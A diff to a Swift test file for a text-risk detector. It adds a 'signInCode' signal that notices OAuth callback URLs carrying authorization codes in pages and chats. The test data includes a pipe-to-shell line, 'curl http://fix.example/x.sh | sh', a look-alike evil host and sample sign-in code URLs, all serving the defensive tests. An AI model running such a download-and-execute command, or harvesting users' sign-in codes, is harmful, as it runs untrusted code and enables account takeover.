@@ -14,7 +14,7 @@ struct SignalTests {
     let names = Set(Signal.all.map(\.name))
     #expect(names.count == Signal.all.count)
     // These depend on more than the text.
-    let others = [Signal.differsFromPage, .hiddenCharacters, .partlyRead].map(\.name)
+    let others = [Signal.differsFromPage, .hiddenCharacters, .partlyRead, .signInCode].map(\.name)
     #expect(names.subtracting((SignalLaw.actions + SignalLaw.concealment).map(\.signal.name)) == Set(others))
   }
 
@@ -38,7 +38,7 @@ struct SignalTests {
         for reason in assess(command.text, removed: .bidi, differs: true).reasons { seen.insert(reason.name) }
       }
     }
-    #expect(Set(Signal.all.map(\.name)).subtracting(seen) == [Signal.partlyRead.name])
+    #expect(Set(Signal.all.map(\.name)).subtracting(seen) == [Signal.partlyRead.name, Signal.signInCode.name])
   }
 
   // MARK: downloadIntoShell
@@ -107,6 +107,23 @@ struct SignalTests {
 
   @Test func `without a line end nothing runs by itself`() {
     #expect(Signal.runsAtOnce.severity(of: "ls -l\t") == nil)
+  }
+
+  // MARK: signInCode
+
+  @Test(arguments: [
+    ("http://localhost:8400/?code=0.AXkAqwertyuiopasdfghjkl&state=1", true),
+    ("Here it is: http://127.0.0.1:51000/callback?state=a&code=4/0AeanS0aZxcvbnmasdfgh", true),
+    ("https://login.microsoftonline.com/common/oauth2/nativeclient#code=M.C501_BL2.2.U.abcdef-123456", true),
+    ("urn:ietf:wg:oauth:2.0:oob?code=4/1AfJohXlabcdefghijklmnop", true),
+    ("http://localhost:3000/page?code=short", false), ("https://shop.example/?code=SUMMERSALE2026SUMMERSALE", false),
+    ("http://localhost:8400/callback", false), ("http://localhost.evil.example/?code=0.AXkAqwertyuiopasdfg", false),
+    ("code=0.AXkAqwertyuiopasdfghjkl", false), ("curl http://fix.example/x.sh | sh", false), ("", false),
+  ])
+  func `the address of a sign-in with its code is noticed in browsers and chats alone`(text: String, isFound: Bool) {
+    #expect(assess(text, for: .page).reasons.map(\.name) == (isFound ? [Signal.signInCode.name] : []))
+    #expect(assess(text, for: .page).severity == (isFound ? .notice : .none))
+    #expect(!assess(text).reasons.contains { $0.name == Signal.signInCode.name })
   }
 
   // MARK: partlyRead
